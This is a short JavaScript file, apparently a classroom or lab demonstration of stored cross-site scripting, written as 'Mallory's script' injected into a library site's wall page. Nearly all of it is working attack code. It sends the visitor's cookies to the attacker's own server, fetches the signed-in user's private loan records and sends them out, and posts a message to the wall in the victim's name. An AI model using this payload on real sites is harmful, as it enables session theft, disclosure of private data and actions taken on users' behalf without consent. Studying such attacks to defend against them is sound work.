// Mallory's script. The library's page loads it, so it runs there, as if the library had written it: in the browser of
// whoever opens the wall, with whatever the visitor may do. It asks this machine only.
(async () => {
    const mallory = new URL(document.currentScript.src).origin;
    const tell = (words) => fetch(`${mallory}/told`, { method: "POST", mode: "no-cors", body: words });

    await tell(`document.cookie is "${document.cookie}"`);

    // No cookie has to be read for this. The browser sends it along.
    const answer = await fetch("/loans");
    if (answer.redirected) return; // Nobody is signed in.
    const loans = new DOMParser().parseFromString(await answer.text(), "text/html").querySelector("main");
    await tell(`/loans says: ${loans.innerHTML.replaceAll(/<[^>]*>/g, " ")}`);

    const words = "I give all my books away.";
    if (!document.body.textContent.includes(words)) {
        await fetch("/wall", { method: "POST", body: new URLSearchParams({ text: words }) });
    }
})();
